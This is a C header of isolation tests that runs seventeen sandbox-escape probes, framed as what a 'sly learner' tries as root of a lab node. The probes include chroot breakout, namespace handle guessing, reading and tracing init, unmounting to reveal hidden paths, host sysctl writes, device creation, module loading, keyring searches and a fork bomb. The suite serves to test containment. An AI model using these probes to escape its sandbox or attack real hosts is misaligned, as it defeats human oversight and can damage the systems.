/* What a sly learner tries as root of a node.  Each attack returns NULL where it was refused, else what it reached. */
#pragma once

#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/if_link.h>
#include <linux/keyctl.h>
#include <linux/mount.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <sched.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/mount.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define ATTACK_SHM_KEY 0x1abc
#define ATTACK_KEY     "attack-secret" /* a key in the session keyring of whoever started the lab */

static char attack_text[512];

static inline const char *attack_found(const char *what, const char *where)
{
    snprintf(attack_text, sizeof attack_text, "%s %.400s", what, where);
    return attack_text;
}

/* One rtnetlink request about interface `name` in the namespace with that id; 0 or an errno value. */
static inline int attack_link(int type, int target, const char *name)
{
    struct {
        struct nlmsghdr header;
        struct ifinfomsg link;
        char attributes[64];
    } request = {.header = {.nlmsg_type = (unsigned short)type, .nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK}};
    struct rtattr *id = (struct rtattr *)request.attributes;
    *id = (struct rtattr){.rta_type = IFLA_TARGET_NETNSID, .rta_len = RTA_LENGTH(4)};
    memcpy(RTA_DATA(id), &target, 4);
    struct rtattr *ifname = (struct rtattr *)(request.attributes + RTA_SPACE(4));
    *ifname = (struct rtattr){.rta_type = IFLA_IFNAME, .rta_len = (unsigned short)RTA_LENGTH(strlen(name) + 1)};
    memcpy(RTA_DATA(ifname), name, strlen(name) + 1);
    request.header.nlmsg_len = (unsigned)(NLMSG_LENGTH(sizeof request.link) + RTA_SPACE(4) + ifname->rta_len);
    int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
    char answer[8192];
    ssize_t length = send(fd, &request, request.header.nlmsg_len, 0) < 0 ? -1 : recv(fd, answer, sizeof answer, 0);
    close(fd);
    const struct nlmsghdr *header = (const struct nlmsghdr *)answer;
    if (length < (ssize_t)sizeof *header)
        return EIO;
    return header->nlmsg_type == NLMSG_ERROR ? -((const struct nlmsgerr *)NLMSG_DATA(header))->error : 0;
}

static inline const char *attack_netnsid(void)
{
    static const char *const names[] = {"v0", "v1", "lo", "eth0"};
    for (int id = 0; id < 32; id++)
        for (size_t i = 0; i < 4; i++) {
            if (attack_link(RTM_GETLINK, id, names[i]) == 0)
                return attack_found("sees a link of another namespace:", names[i]);
            if (i < 2 && attack_link(RTM_DELLINK, id, names[i]) == 0)
                return attack_found("deleted", names[i]);
        }
    return NULL;
}

static inline ino_t attack_inode(const char *path)
{
    struct stat status;
    return stat(path, &status) ? 0 : status.st_ino;
}

/* Namespace file handles hold an inode number, which is easily guessed. */
static inline const char *attack_nsfs_handle(void)
{
    union handle {
        struct file_handle handle;
        char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    } own = {.handle = {.handle_bytes = MAX_HANDLE_SZ}};
    int mount_id, base = open("/proc/self/ns/net", O_RDONLY | O_CLOEXEC);
    if (name_to_handle_at(base, "", &own.handle, &mount_id, AT_EMPTY_PATH))
        return NULL; /* this kernel has no such handles */
    ino_t self = attack_inode("/proc/self/ns/net");
    for (long delta = -3000; delta < 3000; delta++)
        for (unsigned at = 0; at + 4 <= own.handle.handle_bytes; at += 4) {
            uint32_t number;
            memcpy(&number, own.handle.f_handle + at, 4);
            if (number != (uint32_t)self)
                continue;
            union handle guess = own;
            memset(guess.handle.f_handle, 0, 8); /* the unique id may be left out */
            number = (uint32_t)((long)number + delta);
            memcpy(guess.handle.f_handle + at, &number, 4);
            int fd = open_by_handle_at(base, &guess.handle, O_RDONLY | O_CLOEXEC);
            if (fd < 0)
                continue;
            struct stat status;
            if (fstat(fd, &status) == 0 && status.st_ino != self && setns(fd, 0) == 0)
                return "entered a namespace by its handle";
            close(fd);
        }
    return NULL;
}

static inline const char *attack_visible_processes(void)
{
    static const char *const kinds[] = {"net", "mnt", "pid", "user", "uts", "ipc"};
    DIR *proc = opendir("/proc");
    const struct dirent *entry;
    while ((entry = readdir(proc))) {
        if (!isdigit((unsigned char)entry->d_name[0]))
            continue;
        for (size_t i = 0; i < 6; i++) {
            char path[300], self[64];
            snprintf(path, sizeof path, "/proc/%s/ns/%s", entry->d_name, kinds[i]);
            snprintf(self, sizeof self, "/proc/self/ns/%s", kinds[i]);
            ino_t inode = attack_inode(path);
            if (inode && inode != attack_inode(self))
                return attack_found("sees another namespace:", path);
        }
    }
    closedir(proc);
    return NULL;
}

static inline bool attack_has_entries(const char *path)
{
    DIR *directory = opendir(path);
    int count = 0;
    while (directory && readdir(directory))
        count++;
    if (directory)
        closedir(directory);
    return count > 2;
}

/* In a lab with one id only, each init has a memory of its own. */
static inline bool attack_many_ids(void)
{
    unsigned inside, outside, count = 0;
    FILE *map = fopen("/proc/self/uid_map", "re");
    bool many = map && fscanf(map, "%u %u %u", &inside, &outside, &count) == 3 && count > 1;
    if (map)
        fclose(map);
    return many;
}

static inline const char *attack_init(void)
{
    static const char *const files[] = {"/proc/1/mem",       "/proc/1/environ", "/proc/1/exe",    "/proc/1/root/",
                                        "/proc/1/cwd/",      "/proc/1/fd",      "/proc/1/ns/net", "/proc/1/ns/mnt",
                                        "/proc/1/map_files", "/proc/1/auxv",    "/proc/1/maps",   "/proc/1/stack",
                                        "/proc/1/syscall"};
    for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
        char byte[16];
        int fd = open(files[i], O_RDONLY | O_CLOEXEC);
        struct stat status;
        if (fd >= 0 && (fstat(fd, &status) == 0 && S_ISDIR(status.st_mode) ? attack_has_entries(files[i])
                                                                           : read(fd, byte, sizeof byte) > 0))
            return attack_found("opened", files[i]);
        if (fd >= 0)
            close(fd);
    }
    /* Inits that share memory with others share these. */
    static const char *const knobs[] = {"/proc/1/oom_score_adj", "/proc/1/oom_adj", "/proc/1/clear_refs",
                                        "/proc/1/coredump_filter"};
    for (size_t i = 0; attack_many_ids() && i < sizeof knobs / sizeof knobs[0]; i++)
        if (open(knobs[i], O_WRONLY | O_CLOEXEC) >= 0)
            return attack_found("can write", knobs[i]);
    if (open("/proc/1/exe", O_WRONLY | O_CLOEXEC) >= 0 || open("/proc/1/mem", O_RDWR | O_CLOEXEC) >= 0)
        return "opened init's program or memory for writing";
    if (ptrace(PTRACE_ATTACH, 1, NULL, NULL) == 0 || ptrace(PTRACE_SEIZE, 1, NULL, NULL) == 0)
        return "traces init";
    char here[16], *there = (char *)0x400000;
    struct iovec local = {here, sizeof here}, remote = {there, sizeof here};
    if (process_vm_readv(1, &local, 1, &remote, 1, 0) > 0)
        return "read init's memory";
    int pidfd = (int)syscall(SYS_pidfd_open, 1, 0);
    for (int fd = 0; pidfd >= 0 && fd < 64; fd++)
        if (syscall(SYS_pidfd_getfd, pidfd, fd, 0) >= 0)
            return "took a descriptor of init";
    return NULL;
}

/* In a mount namespace of its own, so that the node stays whole.  /usr/share/doc is hidden by the test. */
static inline const char *attack_mounts(void)
{
    if (attack_has_entries("/usr/share/doc"))
        return "sees what is hidden";
    if (unshare(CLONE_NEWNS))
        return "cannot unshare its mounts, as it should";
    struct mount_attr writable = {.attr_clr = MOUNT_ATTR_RDONLY};
    if (umount2("/usr/share/doc", MNT_DETACH) == 0 || umount2("/usr/share/doc", 0) == 0)
        return "unmounted what hides";
    if (mount(NULL, "/usr", NULL, MS_REMOUNT | MS_BIND, NULL) == 0 ||
        mount(NULL, "/usr", NULL, MS_REMOUNT, NULL) == 0 ||
        syscall(SYS_mount_setattr, AT_FDCWD, "/usr", 0, &writable, sizeof writable) == 0 ||
        syscall(SYS_mount_setattr, AT_FDCWD, "/opt", 0, &writable, sizeof writable) == 0)
        return "made /usr or /opt writable";
    mkdir("/tmp/look", 0755);
    if (mount("/usr", "/tmp/look", NULL, MS_BIND, NULL) == 0 && attack_has_entries("/tmp/look/share/doc"))
        return "sees by a bind what is hidden";
    if (mount("/usr", "/tmp/look", NULL, MS_BIND | MS_REC, NULL) == 0 &&
        (umount2("/tmp/look/share/doc", MNT_DETACH) == 0 || attack_has_entries("/tmp/look/share/doc")))
        return "sees by a recursive bind what is hidden";
    umount2("/tmp/look", MNT_DETACH);
    mkdir("/tmp/layers", 0755);
    if (mount("tmpfs", "/tmp/layers", "tmpfs", 0, NULL) == 0) {
        mkdir("/tmp/layers/upper", 0755);
        mkdir("/tmp/layers/work", 0755);
        if (mount("overlay", "/tmp/look", "overlay", 0,
                  "lowerdir=/usr,upperdir=/tmp/layers/upper,workdir=/tmp/layers/work,userxattr") == 0 &&
            attack_has_entries("/tmp/look/share/doc"))
            return "sees by an overlay what is hidden";
    }
    static const char *const filesystems[] = {"devtmpfs", "debugfs", "tracefs",  "securityfs", "cgroup",
                                              "cgroup2",  "bpf",     "configfs", "pstore",     "efivarfs"};
    for (size_t i = 0; i < sizeof filesystems / sizeof filesystems[0]; i++) {
        mkdir("/tmp/mnt", 0755);
        if (mount("none", "/tmp/mnt", filesystems[i], 0, NULL) == 0)
            return attack_found("mounted", filesystems[i]);
    }
    static const char *const below[] = {"/proc", "/sys", "/usr", "/etc", "/"};
    for (size_t i = 0; i < sizeof below / sizeof below[0]; i++)
        umount2(below[i], MNT_DETACH);
    static const char *const outside[] = {"/state",   "/template", "/netns",   "/views",    "/node",
                                          "/program", "/logs",     "/home/..", "/../state", "/old"};
    for (size_t i = 0; i < sizeof outside / sizeof outside[0]; i++)
        if (i != 7 && access(outside[i], F_OK) == 0)
            return attack_found("sees", outside[i]);
    return NULL;
}

/* The first entry of a directory whose name is not among these (two dots aside), or NULL. */
static inline const char *attack_other_entry(const char *path, const char *const *known, size_t count)
{
    DIR *directory = opendir(path);
    const struct dirent *entry;
    const char *found = NULL;
    while (directory && !found && (entry = readdir(directory))) {
        bool expected = entry->d_name[0] == '.';
        for (size_t i = 0; i < count; i++)
            expected |= !strcmp(entry->d_name, known[i]);
        if (!expected)
            found = attack_found(path, entry->d_name);
    }
    if (directory)
        closedir(directory);
    return found;
}

/* Takes the node's root away, in a mount namespace of its own, and looks at what lies below. */
static inline const char *attack_beneath(void)
{
    static const char *const bland[] = {"bin", "dev",  "lib",  "lib32", "lib64",    "libx32", "node",
                                        "opt", "proc", "sbin", "sys",   "template", "usr",    "view"};
    static const char *const devices[] = {"null", "zero", "full", "random", "urandom", "tty"};
    static const char *const loopback[] = {"lo"};
    if (unshare(CLONE_NEWNS))
        return "cannot unshare its mounts, as it should";
    int own = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
    if (umount2("/", MNT_DETACH))
        return NULL;
    if (setns(own, CLONE_NEWNS))
        return "cannot enter its own mount namespace, as it should";
    struct mount_attr writable = {.attr_clr = MOUNT_ATTR_RDONLY};
    static const char *const places[] = {"/",    "/template", "/view", "/usr",
                                         "/opt", "/proc",     "/sys",  "/dev/null"}; /* the first five read-only */
    for (int round = 0; round < 2; round++) {
        const char *found = attack_other_entry("/", bland, sizeof bland / sizeof bland[0]);
        if (!found)
            found = attack_other_entry("/dev", devices, sizeof devices / sizeof devices[0]);
        if (!found)
            found = attack_other_entry("/sys/class/net", loopback, 1);
        if (found)
            return found;
        DIR *proc = opendir("/proc");
        const struct dirent *entry;
        while (proc && (entry = readdir(proc)))
            if (isdigit((unsigned char)entry->d_name[0]))
                return attack_found("sees the process", entry->d_name);
        for (size_t i = 0; i < sizeof places / sizeof places[0]; i++) {
            char file[64];
            snprintf(file, sizeof file, "%s/new", places[i]);
            if (i < 5 && (open(file, O_WRONLY | O_CREAT | O_CLOEXEC, 0600) >= 0 ||
                          syscall(SYS_mount_setattr, AT_FDCWD, places[i], 0, &writable, sizeof writable) == 0))
                return attack_found("can write", places[i]);
            if (i > 0 && umount2(places[i], MNT_DETACH) == 0)
                return attack_found("took away", places[i]);
        }
        if (umount2("/", MNT_DETACH) || setns(own, CLONE_NEWNS)) /* once more, further down */
            return NULL;
    }
    return "took the nursery away";
}

/* The classic way out of a chroot. */
static inline const char *attack_chroot(void)
{
    mkdir("/tmp/jail", 0755);
    int outside = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (chroot("/tmp/jail") || fchdir(outside))
        return "cannot change its root, as it should";
    for (int i = 0; i < 32; i++)
        if (chdir(".."))
            return NULL;
    if (chroot("."))
        return NULL;
    if (access("/state", F_OK) == 0 || access("/template", F_OK) == 0 || access("/work", F_OK) == 0)
        return "is out of its root";
    return access("/etc/marker", F_OK) ? "is somewhere else" : NULL;
}

/* Files below `path` that can be opened for writing, but those that belong to the node's own namespaces. */
static inline const char *attack_writable(const char *path, const char *const *own, size_t own_count, int depth)
{
    for (size_t i = 0; i < own_count; i++)
        if (!strcmp(path, own[i]))
            return NULL;
    struct stat status;
    if (lstat(path, &status))
        return NULL;
    if (S_ISREG(status.st_mode)) {
        int fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
        if (fd < 0)
            return NULL;
        close(fd);
        return attack_found("can write", path);
    }
    DIR *directory = S_ISDIR(status.st_mode) && depth > 0 ? opendir(path) : NULL;
    const struct dirent *entry;
    const char *found = NULL;
    while (directory && !found && (entry = readdir(directory))) {
        char below[1024];
        snprintf(below, sizeof below, "%s/%s", path, entry->d_name);
        if (strcmp(entry->d_name, ".") && strcmp(entry->d_name, ".."))
            found = attack_writable(below, own, own_count, depth - 1);
    }
    if (directory)
        closedir(directory);
    return found;
}

static inline const char *attack_sysctls(void)
{
    /* Of the node's own network, uts, ipc, user and pid namespaces. */
    static const char *const own[] = {"/proc/sys/net",
                                      "/proc/sys/user",
                                      "/proc/sys/fs/mqueue",
                                      "/proc/sys/kernel/hostname",
                                      "/proc/sys/kernel/domainname",
                                      "/proc/sys/kernel/auto_msgmni",
                                      "/proc/sys/kernel/msgmax",
                                      "/proc/sys/kernel/msgmnb",
                                      "/proc/sys/kernel/msgmni",
                                      "/proc/sys/kernel/msg_next_id",
                                      "/proc/sys/kernel/sem",
                                      "/proc/sys/kernel/sem_next_id",
                                      "/proc/sys/kernel/shmall",
                                      "/proc/sys/kernel/shmmax",
                                      "/proc/sys/kernel/shmmni",
                                      "/proc/sys/kernel/shm_next_id",
                                      "/proc/sys/kernel/shm_rmid_forced",
                                      "/proc/sys/kernel/ns_last_pid",
                                      "/proc/sys/kernel/pid_max",
                                      "/proc/sys/kernel/cap_last_cap"};
    return attack_writable("/proc/sys", own, sizeof own / sizeof own[0], 8);
}

static inline const char *attack_kernel_files(void)
{
    static const char *const own[] = {"/sys/class", "/sys/devices/virtual/net", "/sys/fs/cgroup"};
    const char *found = attack_writable("/sys", own, 3, 7);
    static const char *const files[] = {
        "/proc/sysrq-trigger", "/proc/kcore",     "/proc/kmsg",       "/proc/irq/default_smp_affinity",
        "/proc/mtrr",          "/proc/scsi/scsi", "/proc/acpi/wakeup"};
    for (size_t i = 0; !found && i < sizeof files / sizeof files[0]; i++)
        found = attack_writable(files[i], NULL, 0, 0);
    return found;
}

static inline const char *attack_clock(void)
{
    struct timespec now;
    clock_gettime(CLOCK_REALTIME, &now);
    if (clock_settime(CLOCK_REALTIME, &now) == 0)
        return "set the clock";
    struct timeval value = {now.tv_sec, now.tv_nsec / 1000};
    if (settimeofday(&value, NULL) == 0)
        return "set the time of day";
    struct timex adjust = {.modes = ADJ_SETOFFSET};
    return adjtimex(&adjust) >= 0 ? "adjusted the clock" : NULL;
}

static inline const char *attack_devices(void)
{
    if (mknod("/tmp/disk", S_IFBLK | 0600, makedev(254, 0)) == 0 ||
        mknod("/dev/disk", S_IFBLK | 0600, makedev(8, 0)) == 0)
        return "made a disk";
    if (mknod("/tmp/memory", S_IFCHR | 0600, makedev(1, 1)) == 0 ||
        mknod("/tmp/null", S_IFCHR | 0600, makedev(1, 3)) == 0)
        return "made a device";
    return access("/dev/mem", F_OK) == 0 || access("/dev/kmsg", F_OK) == 0 ? "sees devices of the host" : NULL;
}

static inline const char *attack_kernel_calls(void)
{
    if (syscall(SYS_init_module, "x", 1ul, "") == 0 || syscall(SYS_delete_module, "nf_tables", O_NONBLOCK) == 0)
        return "loads modules";
    if (syscall(SYS_kexec_load, 0ul, 0ul, NULL, 0ul) == 0)
        return "loads a kernel";
    if (syscall(SYS_swapoff, "/dev/vda") == 0 || syscall(SYS_acct, NULL) == 0)
        return "changes swap or accounting";
#ifdef SYS_iopl
    if (syscall(SYS_iopl, 3) == 0)
        return "has the machine's ports";
#endif
    struct rlimit limit = {RLIM_INFINITY, RLIM_INFINITY};
    if (setrlimit(RLIMIT_NPROC, &limit) == 0)
        return "raised its limit of processes";
    return setpriority(PRIO_PROCESS, 0, -10) == 0 ? "raised its priority" : NULL;
}

static inline const char *attack_sockets(void)
{
    FILE *sockets = fopen("/proc/net/unix", "re");
    char line[512];
    const char *found = NULL;
    while (sockets && !found && fgets(line, sizeof line, sockets))
        if (strchr(line, '@'))
            found = attack_found("sees the socket", line);
    if (sockets)
        fclose(sockets);
    return found;
}

static inline const char *attack_ipc(void)
{
    if (shmget(ATTACK_SHM_KEY, 4096, 0) >= 0)
        return "sees shared memory of another node";
    return access("/dev/shm/attack", F_OK) == 0 ? "sees /dev/shm of another node" : NULL;
}

static inline const char *attack_keyrings(void)
{
    static const int rings[] = {KEY_SPEC_THREAD_KEYRING, KEY_SPEC_PROCESS_KEYRING, KEY_SPEC_SESSION_KEYRING,
                                KEY_SPEC_USER_KEYRING, KEY_SPEC_USER_SESSION_KEYRING};
    for (size_t i = 0; i < 5; i++)
        if (syscall(SYS_keyctl, KEYCTL_SEARCH, rings[i], "user", ATTACK_KEY, 0) >= 0)
            return "found a key of the host's session";
    /* Its own user's ring would be that of whoever started the lab. */
    return syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 1) >= 0 ? "has the user's key ring" : NULL;
}

static inline const char *attack_descriptors(void)
{
    DIR *directory = opendir("/proc/self/fd");
    const struct dirent *entry;
    const char *found = NULL;
    while (!found && (entry = readdir(directory)))
        if (atoi(entry->d_name) > 2 && atoi(entry->d_name) != dirfd(directory))
            found = attack_found("has the descriptor", entry->d_name);
    closedir(directory);
    return found;
}

/* Forks until it is refused; leaves nobody behind. */
static inline const char *attack_fork_bomb(void)
{
    static pid_t children[5000];
    int count = 0;
    while (count < 5000 && (children[count] = fork()) >= 0) {
        if (children[count] == 0) {
            pause();
            _exit(0);
        }
        count++;
    }
    for (int i = 0; i < count; i++)
        kill(children[i], SIGKILL);
    while (wait(NULL) > 0)
        continue;
    return count == 5000 ? "forks without end" : NULL;
}

static const struct attack {
    const char *name;
    const char *(*run)(void);
} attacks[] = {
    {"netlink with a target namespace id", attack_netnsid},
    {"namespace file handles", attack_nsfs_handle},
    {"namespaces of visible processes", attack_visible_processes},
    {"init: memory, program, descriptors", attack_init},
    {"mounts", attack_mounts},
    {"what lies below the root", attack_beneath},
    {"chroot", attack_chroot},
    {"host sysctls", attack_sysctls},
    {"kernel files", attack_kernel_files},
    {"the clock", attack_clock},
    {"device files", attack_devices},
    {"kernel calls", attack_kernel_calls},
    {"abstract sockets", attack_sockets},
    {"ipc", attack_ipc},
    {"keyrings", attack_keyrings},
    {"descriptors", attack_descriptors},
    {"fork bomb", attack_fork_bomb},
};
#define ATTACK_COUNT (sizeof attacks / sizeof attacks[0])

/* The program inside the node: each attack in a child of its own. */
static inline int attack_main(void)
{
    for (size_t i = 0; i < ATTACK_COUNT; i++) {
        pid_t child = fork();
        if (child == 0) {
            const char *reached = attacks[i].run();
            printf("%s %s%s%s\n", reached ? "BREACH" : "refused", attacks[i].name, reached ? ": " : "",
                   reached ? reached : "");
            fflush(stdout);
            _exit(0);
        }
        int status;
        waitpid(child, &status, 0);
        if (status)
            printf("BREACH %s: ended with status 0x%x\n", attacks[i].name, (unsigned)status);
    }
    fflush(stdout);
    return 0;
}
